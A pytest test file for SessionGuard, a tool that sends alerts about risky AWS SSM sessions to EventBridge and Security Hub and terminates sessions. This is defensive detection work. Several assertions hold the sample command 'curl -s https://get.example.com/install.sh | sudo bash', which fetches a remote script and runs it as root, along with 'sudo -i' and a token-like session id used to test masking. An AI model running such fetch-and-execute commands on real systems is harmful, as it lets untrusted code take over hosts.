"""The outlets beyond SNS and Slack (issue #17), end to end through the session alert function: EventBridge events
(read from an SQS queue that a rule on the bus targets, as a subscriber sees them, and each checked against
docs/schemas/alert-event.v1.json), Security Hub findings (moto's BatchImportFindings keeps findings by Id, as
Security Hub does) and session termination (moto has no TerminateSession: a real SSM client behind botocore's
Stubber, which checks every call against the service model). The guardrail function's events go the same way.
"""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from types import ModuleType
from typing import Any

import boto3
import jsonschema  # type: ignore[import-untyped]  # no stubs in the pins
import pytest
from botocore.exceptions import ClientError
from botocore.stub import Stubber
from moto import mock_aws
from sessionguard.adapters.events import EventBridgeBus
from sessionguard.adapters.securityhub import SecurityHubImporter
from sessionguard.adapters.ssm_sessions import SsmSessionTerminator
from sessionguard.alerting import guardrail_alerts, session_alerts
from sessionguard.alerting.delivery import Deliveries, DeliveryFailed, DeliveryOutlets
from sessionguard.alerting.formatting import SnsMessage
from sessionguard.alerting.outlets import AlertOutlets, OutletSettings, asff_finding, never_terminated
from sessionguard.alerting.replay import redrive_failure_queue
from sessionguard.alerting.transcript import log_stream_name
from sessionguard.enrollment import steps
from sessionguard.enrollment.contracts import ReportFailureInput, StepFailure

from tests.conftest import HttpRecorder
from tests.functional import make_alert_fixtures as fixtures
from tests.functional import test_guardrail_alerts as guardrail_tests
from tests.functional.test_enrollment_aws import World, world  # noqa: F401 - the fixture is used by name
from tests.functional.test_session_alerts import (  # noqa: F401 - the fixtures are used by name
    RISKY_DELIVERED,
    RISKY_LINE,
    SECRETS,
    Stack,
    app,
    clean_powertools,
    event,
    function_logs,
    invoke,
    session_message,
    stack,
)
from tests.support import AlertStack, InMemoryLedger, InMemoryNoiseStore, load_function

REPO = Path(__file__).resolve().parents[2]
SCHEMA = json.loads((REPO / "docs" / "schemas" / "alert-event.v1.json").read_text())
REGION = "us-east-1"
ACCOUNT = "123456789012"  # moto's account
BUS = "security-events"
SANITIZED_GROUP = "/aws/ssm/sessionguard/sanitized"
PRODUCT_ARN = f"arn:aws:securityhub:{REGION}:{ACCOUNT}:product/{ACCOUNT}/default"


@dataclass
class Outlets:
    """What the bus and Security Hub received, read back from moto."""

    stack: Stack
    events_queue_url: str
    sleeps: list[float] = field(default_factory=list)

    def events(self) -> list[dict[str, Any]]:
        return [json.loads(m["Body"]) for m in self.stack.drain(self.events_queue_url)]

    def findings(self) -> list[dict[str, Any]]:
        client = boto3.client("securityhub", region_name=REGION)
        return client.get_findings()["Findings"]  # type: ignore[no-any-return]


def route_bus_to_queue(sqs: Any, bus: str) -> str:
    """A rule on `bus` for every SessionGuard event, targeting an SQS queue: the queue URL."""
    events = boto3.client("events", region_name=REGION)
    if bus != "default":
        events.create_event_bus(Name=bus)
    queue_url = sqs.create_queue(QueueName=f"{bus}-subscriber")["QueueUrl"]
    queue_arn = sqs.get_queue_attributes(QueueUrl=queue_url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    events.put_rule(
        Name="sessionguard-to-queue", EventBusName=bus, EventPattern=json.dumps({"source": ["sessionguard"]})
    )
    events.put_targets(Rule="sessionguard-to-queue", EventBusName=bus, Targets=[{"Id": "queue", "Arn": queue_arn}])
    return str(queue_url)


@pytest.fixture
def outlets(stack: Stack, monkeypatch: pytest.MonkeyPatch) -> Outlets:  # noqa: F811 - the imported fixture
    monkeypatch.setenv("ALERT_EVENT_BUS", BUS)
    monkeypatch.setenv("SECURITY_HUB_PRODUCT_ARN", PRODUCT_ARN)
    monkeypatch.setenv("ALERT_LOG_GROUP", SANITIZED_GROUP)
    boto3.client("securityhub", region_name=REGION).enable_security_hub()
    return Outlets(stack, route_bus_to_queue(stack.sqs, BUS))


def more_outlets(record_sleeps: list[float] | None = None) -> AlertOutlets:
    """The function's further outlets (built once per container), with waits recorded instead of slept."""
    _, built = session_alerts.default_outlets()
    assert built.more is not None
    if record_sleeps is not None:
        built.sleep = record_sleeps.append
    return built.more


def rule_ids(events: Sequence[dict[str, Any]]) -> list[str]:
    return [e["detail"]["rule_id"] for e in events]


# --- EventBridge ------------------------------------------------------------------------------------------------


def test_every_session_alert_is_put_on_the_bus_once_and_matches_the_published_schema(
    app: ModuleType,  # noqa: F811
    outlets: Outlets,
) -> None:
    summary = invoke(app, event("alerts-risky-session.json"))

    events = outlets.events()
    assert rule_ids(events) == RISKY_DELIVERED  # the alerts that reached SNS, in the same order
    assert summary["delivered"]["eventbridge"] == len(RISKY_DELIVERED)
    for sent in events:
        assert sent["source"] == "sessionguard"
        assert sent["detail-type"] == "Session Alert"
        jsonschema.validate(sent["detail"], SCHEMA)
    first = events[0]["detail"]
    assert first["kind"] == "command-alert"
    assert first["severity"] == "critical"
    assert first["session_id"] == fixtures.RISKY_SESSION
    assert first["summary"] == "curl -s https://get.example.com/install.sh | sudo bash"
    assert first["techniques"] == ["T1059.004", "T1105"]
    assert first["alert"]["rule_id"] == "SG-TEST-001"  # the whole alert record, as in the SNS message
    text = json.dumps(events)
    assert "[MASKED:" in text
    for secret in SECRETS:
        assert secret not in text


def test_a_retried_batch_puts_no_event_twice_and_ids_stay_stable(
    app: ModuleType,  # noqa: F811
    outlets: Outlets,
) -> None:
    invoke(app, event("alerts-risky-session.json"))
    first_ids = [e["detail"]["alert_id"] for e in outlets.events()]
    summary = invoke(app, event("alerts-risky-session.json"))  # Lambda's retry of the same batch

    assert rule_ids(outlets.events()) == RISKY_DELIVERED
    assert "eventbridge" not in summary["delivered"]
    assert len(set(first_ids)) == len(first_ids)


class FlakyBus:
    """The real bus behind answers of our choosing: each code in `codes` is one refused PutEvents entry."""

    def __init__(self, codes: list[str]) -> None:
        self.codes = codes
        self.calls = 0
        self.real = EventBridgeBus(boto3.client("events", region_name=REGION))

    def put_event(self, bus_name: str, source: str, detail_type: str, detail: str, resources: list[str]) -> str:
        self.calls += 1
        if self.codes:
            return self.codes.pop(0)
        return self.real.put_event(bus_name, source, detail_type, detail, resources)


def test_a_throttled_entry_is_put_again_after_a_pause(
    app: ModuleType,  # noqa: F811
    outlets: Outlets,
) -> None:
    more = more_outlets(outlets.sleeps)
    more.bus = FlakyBus(["ThrottlingException", "InternalFailure"])
    invoke(app, event("alerts-risky-session.json"))

    assert rule_ids(outlets.events()) == RISKY_DELIVERED
    assert outlets.sleeps == [0.5, 1.0]


def test_a_failing_bus_is_retried_then_fails_the_invocation_after_sns_and_the_retry_completes_it(
    app: ModuleType,  # noqa: F811
    stack: Stack,  # noqa: F811
    outlets: Outlets,
) -> None:
    more = more_outlets(outlets.sleeps)
    flaky = FlakyBus(["ThrottlingException"] * 3 * len(RISKY_DELIVERED))
    more.bus = flaky
    with pytest.raises(DeliveryFailed, match=r"eventbridge x4"):
        invoke(app, event("alerts-risky-session.json"))
    assert stack.sns_rule_ids() == RISKY_DELIVERED  # SNS is not held back by the bus
    assert flaky.calls == 3 * len(RISKY_DELIVERED)  # each event tried three times
    assert outlets.events() == []

    summary = invoke(app, event("alerts-risky-session.json"))  # Lambda's retry, the bus healthy again
    assert rule_ids(outlets.events()) == RISKY_DELIVERED
    assert stack.sns_rule_ids() == RISKY_DELIVERED  # nothing sent twice
    # The findings went out the first time; the failed attempt's delivery record said it was not complete, so the
    # retry writes one that says complete, alone (docs/alerts.md, "Retries").
    assert summary["delivered"] == {"eventbridge": 4, "transcript": 1}


@dataclass
class InProcessInvoker:
    """Lambda's async Invoke, for the replay: the function's handler, in this process."""

    app: ModuleType

    def invoke(self, function_name: str, payload: bytes) -> int:
        invoke(self.app, json.loads(payload))
        return 202


def test_a_bus_down_through_every_retry_is_parked_and_the_replay_puts_each_event_once(
    app: ModuleType,  # noqa: F811
    stack: Stack,  # noqa: F811
    outlets: Outlets,
) -> None:
    more = more_outlets(outlets.sleeps)
    more.bus = FlakyBus(["AccessDeniedException"] * 3 * len(RISKY_DELIVERED))
    for _ in range(3):  # the invocation and Lambda's two retries
        with pytest.raises(DeliveryFailed, match=r"eventbridge x4"):
            invoke(app, event("alerts-risky-session.json"))
    # Lambda's on-failure destination parks the event with its error (the failure queue, as for Slack).
    stack.sqs.send_message(
        QueueUrl=stack.failure_queue_url, MessageBody=json.dumps(event("alerts-lambda-on-failure.json"))
    )
    assert outlets.events() == []

    report = redrive_failure_queue(stack.failure_queue_url, "fn", max_messages=5, invoker=InProcessInvoker(app))

    assert report.count("replayed") == 1
    assert rule_ids(outlets.events()) == RISKY_DELIVERED  # each once, now that the bus takes them
    assert stack.sns_rule_ids() == RISKY_DELIVERED  # nothing else sent again
    assert len(outlets.findings()) == len(RISKY_DELIVERED)


def test_an_event_refused_for_good_is_not_retried_in_the_invocation(
    app: ModuleType,  # noqa: F811
    outlets: Outlets,
) -> None:
    more = more_outlets(outlets.sleeps)
    more.bus = FlakyBus(["AccessDeniedException"] * len(RISKY_DELIVERED))
    with pytest.raises(DeliveryFailed, match=r"eventbridge x4"):
        invoke(app, event("alerts-risky-session.json"))
    assert outlets.sleeps == []


def test_a_partial_put_events_failure_is_read_from_the_entry_as_the_service_model_shapes_it() -> None:
    client = boto3.client("events", region_name=REGION)
    with Stubber(client) as stubber:
        expected = {
            "Entries": [
                {
                    "EventBusName": BUS,
                    "Source": "sessionguard",
                    "DetailType": "Session Alert",
                    "Detail": '{"a": 1}',
                    "Resources": [],
                }
            ]
        }
        stubber.add_response(
            "put_events",
            {"FailedEntryCount": 1, "Entries": [{"ErrorCode": "ThrottlingException", "ErrorMessage": "Rate exceeded"}]},
            expected,
        )
        stubber.add_response("put_events", {"FailedEntryCount": 0, "Entries": [{"EventId": "e-1"}]}, expected)
        bus = EventBridgeBus(client)
        assert bus.put_event(BUS, "sessionguard", "Session Alert", '{"a": 1}', []) == "ThrottlingException"
        assert bus.put_event(BUS, "sessionguard", "Session Alert", '{"a": 1}', []) == ""
        stubber.assert_no_pending_responses()


def test_guardrail_alerts_go_on_the_default_bus_as_guardrail_findings(
    monkeypatch: pytest.MonkeyPatch, http_recorder: HttpRecorder
) -> None:
    guardrail_app = load_function("guardrail_alerts")
    guardrail_alerts.default_outlets.cache_clear()
    with mock_aws():
        stack = AlertStack.create(http_recorder)
        stack.set_environment(
            monkeypatch,
            SESSION_LOG_GROUP="/aws/ssm/sessionguard/sessions",
            SESSION_LOG_RETENTION_DAYS="365",
            TRANSCRIPT_BUCKET="sessionguard-transcriptbucket-7f3k2m9q1x4z",
            SESSION_KEY_ARN=f"arn:aws:kms:{REGION}:111122223333:key/0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0",
            LOGGING_POLICY_ARN="arn:aws:iam::111122223333:policy/sessionguard-SessionLoggingPolicy-Q2W3E4R5T6Y7",
            STACK_ROLE_ARNS="arn:aws:iam::111122223333:role/sessionguard-PreferencesFunctionRole-8H7G6F5E4D3C",
            ALERT_EVENT_BUS="default",
        )
        queue_url = route_bus_to_queue(stack.sqs, "default")
        try:
            summary = guardrail_app.lambda_handler(
                guardrail_tests.event("ssm-start-ssh-session"), guardrail_tests.lambda_context()
            )
            (sent,) = [json.loads(m["Body"]) for m in stack.drain(queue_url)]
        finally:
            guardrail_alerts.default_outlets.cache_clear()
    assert summary["delivered"]["eventbridge"] == 1
    assert sent["detail-type"] == "Guardrail Finding"
    jsonschema.validate(sent["detail"], SCHEMA)
    assert sent["detail"]["kind"] == "guardrail-alert"
    assert sent["detail"]["rule_id"] == "SG-GR-001"
    assert "ssm:StartSession" in sent["detail"]["summary"]


# --- alert lines in the sanitized transcript -----------------------------------------------------------------------


def test_each_command_alert_is_also_a_line_of_its_sessions_sanitized_transcript_once(
    app: ModuleType,  # noqa: F811
    stack: Stack,  # noqa: F811
    outlets: Outlets,
) -> None:
    invoke(app, event("alerts-risky-session.json"))
    invoke(app, event("alerts-risky-session.json"))  # a retry writes no second line

    lines = stack.transcript(fixtures.RISKY_SESSION)
    alerts = [line for line in lines if line["kind"] == "alert"]
    assert [a["rule_id"] for a in alerts] == RISKY_DELIVERED
    assert alerts[0]["instance_id"] == fixtures.RISKY_INSTANCE
    assert alerts[0]["user"] == "arn:aws:sts::111122223333:assumed-role/Ops/bob.smith"
    assert alerts[0]["severity"] == "critical"
    assert alerts[0]["text"] == "curl -s https://get.example.com/install.sh | sudo bash"
    assert [line["kind"] for line in lines if line["kind"] != "alert"].count("command") > 0  # beside the commands


def test_the_alert_line_of_a_session_whose_id_masking_changes_is_beside_its_transcript(
    app: ModuleType,  # noqa: F811
    stack: Stack,  # noqa: F811
    outlets: Outlets,
) -> None:
    # A session id holding a token: its sanitized stream is the masked id and a digest of the raw one
    session = "jane-ghp_qsR6RZ24lPoQj3oPUlieI2nVsbBi1RMar1jf-0a1b2c3d"

    invoke(app, fixtures.data_message(session, [("2026-11-26T17:00:00Z", session_message(session, [RISKY_LINE]))]))

    streams = [s["logStreamName"] for s in stack.logs.describe_log_streams(logGroupName=SANITIZED_GROUP)["logStreams"]]
    assert streams == [log_stream_name(session)]  # one stream: the alert line is not in a sibling named without it
    events = stack.logs.get_log_events(logGroupName=SANITIZED_GROUP, logStreamName=streams[0])["events"]
    kinds = {json.loads(e["message"]).get("kind") for e in events}
    assert {"alert", "command"} <= kinds


# --- Security Hub -------------------------------------------------------------------------------------------------


def test_each_alert_becomes_one_asff_finding_of_the_accounts_default_product(
    app: ModuleType,  # noqa: F811
    outlets: Outlets,
) -> None:
    invoke(app, event("alerts-risky-session.json"))

    findings = outlets.findings()
    assert [f["ProductFields"]["sessionguard/RuleId"] for f in findings] == RISKY_DELIVERED
    critical = findings[0]
    assert critical["SchemaVersion"] == "2018-10-08"
    assert critical["ProductArn"] == PRODUCT_ARN
    assert critical["Id"].startswith("sessionguard/")
    assert critical["Severity"] == {"Label": "CRITICAL", "Original": "critical"}
    assert critical["Workflow"] == {"Status": "NEW"}
    assert "Compliance" not in critical
    assert critical["ProductFields"]["sessionguard/MitreAttackTechniques"] == "T1059.004,T1105"
    assert any("MITRE ATT&CK T1105" in kind for kind in critical["Types"])
    assert [r["Id"] for r in critical["Resources"]] == [
        f"arn:aws:ec2:eu-west-1:{ACCOUNT}:instance/{fixtures.RISKY_INSTANCE}",
        f"arn:aws:ssm:eu-west-1:{ACCOUNT}:session/{fixtures.RISKY_SESSION}",
    ]
    assert [f["Severity"]["Label"] for f in findings[1:]] == ["HIGH", "HIGH", "HIGH"]
    assert critical["Description"] == "curl -s https://get.example.com/install.sh | sudo bash"
    text = json.dumps(findings)
    for secret in SECRETS:
        assert secret not in text


class FlakyImporter:
    """The real importer behind failures of our choosing: `refuse` findings refused per call (after the real
    import, as a partial failure), `throttle` calls that raise ThrottlingException first."""

    def __init__(self, *, refuse: int = 0, throttle: int = 0, calls_refusing: int = 0) -> None:
        self.real = SecurityHubImporter(boto3.client("securityhub", region_name=REGION))
        self.refuse = refuse
        self.calls_refusing = calls_refusing
        self.throttle = throttle
        self.batches: list[int] = []

    def import_findings(self, findings: Sequence[dict[str, Any]]) -> dict[str, str]:
        self.batches.append(len(findings))
        if self.throttle:
            self.throttle -= 1
            raise ClientError({"Error": {"Code": "ThrottlingException", "Message": "Rate exceeded"}}, "BatchImport")
        failed = self.real.import_findings(findings)
        if self.calls_refusing:
            self.calls_refusing -= 1
            failed.update({f["Id"]: "InternalException" for f in findings[: self.refuse]})
        return failed


def test_a_retried_batch_updates_its_findings_instead_of_duplicating_them(
    app: ModuleType,  # noqa: F811
    outlets: Outlets,
) -> None:
    more = more_outlets(outlets.sleeps)
    flaky = FlakyImporter(refuse=1, calls_refusing=3)
    more.findings = flaky
    with pytest.raises(DeliveryFailed, match=r"securityhub x1"):
        invoke(app, event("alerts-risky-session.json"))
    assert flaky.batches == [4, 1, 1]  # the whole batch, then only the refused finding, twice
    assert len(outlets.findings()) == 4  # the three it took, and the refused one (moto kept it)

    summary = invoke(app, event("alerts-risky-session.json"))  # Lambda's retry imports the batch again
    assert summary["delivered"] == {"securityhub": 1, "transcript": 1}  # and the record saying the batch complete
    assert flaky.batches == [4, 1, 1, 4]
    assert len(outlets.findings()) == 4  # updated by Id, not added


def test_a_throttled_import_is_retried_after_a_pause(
    app: ModuleType,  # noqa: F811
    outlets: Outlets,
) -> None:
    more = more_outlets(outlets.sleeps)
    flaky = FlakyImporter(throttle=2)
    more.findings = flaky
    invoke(app, event("alerts-risky-session.json"))
    assert flaky.batches == [4, 4, 4]
    assert outlets.sleeps == [0.5, 1.0]
    assert len(outlets.findings()) == 4


def test_findings_are_imported_in_batches_of_at_most_one_hundred() -> None:
    importer = RecordingImporter()
    more = AlertOutlets(OutletSettings(product_arn=PRODUCT_ARN), findings=importer)
    deliveries, counts = deliveries_with_fakes(more)
    record = {"type": "alert", "rule_id": "SG-TEST-001", "severity": "high", "session_id": "s-1", "region": REGION}
    body = "x\nAlert JSON:\n" + json.dumps(record)
    messages = [(SnsMessage("s", body, {}), f"key-{n}") for n in range(250)]
    more.deliver(deliveries, messages)
    assert [len(batch) for batch in importer.batches] == [100, 100, 50]
    assert len({f["Id"] for batch in importer.batches for f in batch}) == 250
    assert counts.delivered["securityhub"] == 3


@dataclass
class Counts:
    delivered: Counter[str] = field(default_factory=Counter)
    suppressed: Counter[str] = field(default_factory=Counter)
    failures: Counter[str] = field(default_factory=Counter)


def deliveries_with_fakes(more: AlertOutlets) -> tuple[Deliveries, Counts]:
    """Deliveries over in-memory fakes (the outlets under test in `more`), and the counts they keep."""
    outlets = DeliveryOutlets(
        publisher=None,  # type: ignore[arg-type]  # not reached: the test calls the further outlets only
        noise=InMemoryNoiseStore(),
        ledger=InMemoryLedger(),
        slack=None,  # type: ignore[arg-type]
        slack_url=lambda: "",
        more=more,
    )
    counts = Counts()
    return Deliveries(outlets, counts, None), counts


@dataclass
class RecordingImporter:
    batches: list[list[dict[str, Any]]] = field(default_factory=list)

    def import_findings(self, findings: Sequence[dict[str, Any]]) -> dict[str, str]:
        self.batches.append(list(findings))
        return {}


def test_findings_and_failures_have_the_shapes_of_the_service_model() -> None:
    client = boto3.client("securityhub", region_name=REGION)
    record = {
        "type": "alert",
        "rule_id": "SG-PRIV-001",
        "title": "Shell through sudo",
        "severity": "critical",
        "techniques": ["T1548.003"],
        "session_id": fixtures.RISKY_SESSION,
        "instance_id": fixtures.RISKY_INSTANCE,
        "account_id": ACCOUNT,
        "region": REGION,
        "event_time": "2026-11-26T15:00:09Z",
        "command": "sudo -i",
    }
    finding = asff_finding(record, "key-1", PRODUCT_ARN, datetime(2026, 11, 26, 15, 1, tzinfo=UTC))
    assert finding["Types"] == ["TTPs/Privilege Escalation", "TTPs/Privilege Escalation/MITRE ATT&CK T1548.003"]
    assert finding["CreatedAt"] == "2026-11-26T15:00:09.000000Z"
    finding["Id"] = "sessionguard/abc"
    # The Stubber validates the request against BatchImportFindings' input shape (required members, types).
    with Stubber(client) as stubber:
        stubber.add_response(
            "batch_import_findings",
            {
                "FailedCount": 1,
                "SuccessCount": 0,
                "FailedFindings": [{"Id": "sessionguard/abc", "ErrorCode": "InvalidInput", "ErrorMessage": "bad"}],
            },
            {"Findings": [finding]},
        )
        assert SecurityHubImporter(client).import_findings([finding]) == {"sessionguard/abc": "InvalidInput"}


# --- session termination ------------------------------------------------------------------------------------------


@pytest.fixture
def ssm_stub(stack: Stack, monkeypatch: pytest.MonkeyPatch) -> Iterator[Stubber]:  # noqa: F811
    """TerminateSession through a real SSM client whose calls the Stubber checks against the service model."""
    monkeypatch.setenv("TERMINATE_SESSIONS_AT_SEVERITY", "critical")
    client = boto3.client("ssm", region_name=REGION)
    with Stubber(client) as stubber:
        more_outlets().terminator = SsmSessionTerminator(client)
        yield stubber


def sns_records(alert_stack: Stack) -> list[dict[str, Any]]:
    return [json.loads(m["Body"].partition("Alert JSON:\n")[2]) for m in alert_stack.sns_messages()]


def test_a_critical_alert_terminates_its_session_once_and_says_so(
    app: ModuleType,  # noqa: F811
    stack: Stack,  # noqa: F811
    ssm_stub: Stubber,
) -> None:
    ssm_stub.add_response(
        "terminate_session", {"SessionId": fixtures.RISKY_SESSION}, {"SessionId": fixtures.RISKY_SESSION}
    )
    summary = invoke(app, event("alerts-risky-session.json"))
    ssm_stub.assert_no_pending_responses()
    assert summary["delivered"]["termination"] == 1

    records = sns_records(stack)
    assert records[0]["response"] == {"termination": "terminated (TerminateSession)"}
    assert "Session: terminated (TerminateSession)" in stack.sns_messages()[0]["Body"]
    assert all("response" not in r for r in records[1:])  # high alerts, below the threshold
    slack = stack.slack_posts()[0]["blocks"][-1]["elements"][0]["text"]
    assert slack == "*Session:* terminated (TerminateSession)"

    invoke(app, event("alerts-risky-session.json"))  # a retry: the Stubber has no second answer, none is asked


def test_at_high_every_alert_of_the_session_says_it_was_terminated_by_the_first(
    app: ModuleType,  # noqa: F811
    stack: Stack,  # noqa: F811
    ssm_stub: Stubber,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("TERMINATE_SESSIONS_AT_SEVERITY", "high")
    session_alerts.default_outlets.cache_clear()
    client = boto3.client("ssm", region_name=REGION)
    with Stubber(client) as stubber:
        more_outlets().terminator = SsmSessionTerminator(client)
        stubber.add_response("terminate_session", {"SessionId": fixtures.RISKY_SESSION})
        invoke(app, event("alerts-risky-session.json"))
        stubber.assert_no_pending_responses()
    notes = [r["response"]["termination"] for r in sns_records(stack)]
    assert notes == ["terminated (TerminateSession)", *["terminated by an earlier alert of this session"] * 3]


def test_an_allow_listed_user_is_never_terminated_and_the_alert_says_why(
    app: ModuleType,  # noqa: F811
    stack: Stack,  # noqa: F811
    ssm_stub: Stubber,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The session's user is arn:aws:sts::111122223333:assumed-role/Ops/bob.smith: the role's ARN covers it.
    monkeypatch.setenv(
        "NEVER_TERMINATE", "arn:aws:iam::111122223333:role/BreakGlass, arn:aws:iam::111122223333:role/Ops"
    )
    session_alerts.default_outlets.cache_clear()
    more_outlets().terminator = SsmSessionTerminator(boto3.client("ssm", region_name=REGION))  # moto: never called
    summary = invoke(app, event("alerts-risky-session.json"))
    assert "termination" not in summary["delivered"]
    note = sns_records(stack)[0]["response"]["termination"]
    assert note == "not terminated: the user is on the never-terminate list (NeverTerminatePrincipals)"


def test_a_failed_termination_is_said_in_the_alert_and_fails_the_invocation_for_a_retry(
    app: ModuleType,  # noqa: F811
    stack: Stack,  # noqa: F811
    ssm_stub: Stubber,
) -> None:
    ssm_stub.add_client_error("terminate_session", "AccessDeniedException", http_status_code=400)
    with pytest.raises(DeliveryFailed, match=r"termination x1"):
        invoke(app, event("alerts-risky-session.json"))
    assert sns_records(stack)[0]["response"]["termination"].startswith("not terminated: TerminateSession failed")

    ssm_stub.add_response("terminate_session", {"SessionId": fixtures.RISKY_SESSION})
    summary = invoke(app, event("alerts-risky-session.json"))  # Lambda's retry terminates it
    assert summary["delivered"] == {"termination": 1, "transcript": 1}  # and the record saying the batch complete
    ssm_stub.assert_no_pending_responses()


@pytest.mark.parametrize(
    ("user", "patterns", "listed"),
    [
        ("arn:aws:sts::111122223333:assumed-role/Ops/bob", ["arn:aws:iam::111122223333:role/Ops"], True),
        ("arn:aws:sts::111122223333:assumed-role/Ops/bob", ["arn:aws:iam::111122223333:role/team/Ops"], True),
        ("arn:aws:sts::111122223333:assumed-role/OpsAdmin/bob", ["arn:aws:iam::111122223333:role/Ops"], False),
        ("arn:aws:sts::444455556666:assumed-role/Ops/bob", ["arn:aws:iam::111122223333:role/Ops"], False),
        ("arn:aws:sts::111122223333:assumed-role/Ops/bob", ["arn:aws:sts::111122223333:assumed-role/Ops/b*"], True),
        ("arn:aws:iam::111122223333:user/alice", ["arn:aws:iam::111122223333:user/alice"], True),
        ("arn:aws:iam::111122223333:user/alice", [], False),
    ],
)
def test_the_never_terminate_list_matches_users_roles_and_their_sessions(
    user: str, patterns: list[str], listed: bool
) -> None:
    assert never_terminated(user, patterns) is listed


# --- enrollment failures ------------------------------------------------------------------------------------------

EXECUTION = "arn:aws:states:us-east-1:123456789012:execution:sessionguard-enrollment:i-0abc-20261126T150000Z"


def report_failure(enrolment: World, bus: Any) -> None:
    instance_id = enrolment.launch()
    failure: StepFailure = {"Reason": "registration_timeout", "Detail": "not registered after 2700 s"}
    request: ReportFailureInput = {"InstanceId": instance_id, "Failure": failure, "ExecutionId": EXECUTION}
    steps.report_failure(enrolment.fleet, enrolment.with_settings(alert_event_bus=BUS), request, events=bus)


def test_an_enrollment_failure_is_alerted_and_put_on_the_bus_as_an_enrollment_failure(
    world: World,  # noqa: F811
) -> None:
    queue_url = route_bus_to_queue(world.sqs, BUS)
    report_failure(world, EventBridgeBus(boto3.client("events", region_name=REGION)))

    [alert] = world.alerts()
    [message] = world.sqs.receive_message(QueueUrl=queue_url).get("Messages", [])
    sent = json.loads(message["Body"])
    assert sent["detail-type"] == "Enrollment Failure"
    jsonschema.validate(sent["detail"], SCHEMA)
    detail = sent["detail"]
    assert detail["kind"] == "enrollment-failure"
    assert detail["rule_id"] == "enrollment/registration_timeout"
    assert detail["instance_id"] == alert["instance_id"]
    assert detail["summary"] == "not registered after 2700 s"
    assert (detail["account_id"], detail["region"]) == ("123456789012", "us-east-1")


def test_a_bus_that_refuses_the_enrollment_event_does_not_fail_the_step_once_the_alert_is_out(
    world: World,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("time.sleep", lambda _seconds: None)  # the outlet's pauses between attempts
    bus = FlakyBus(["ThrottlingException"] * 3)
    report_failure(world, bus)  # no exception: a failed step would publish the alert again
    assert bus.calls == 3
    assert len(world.alerts()) == 1
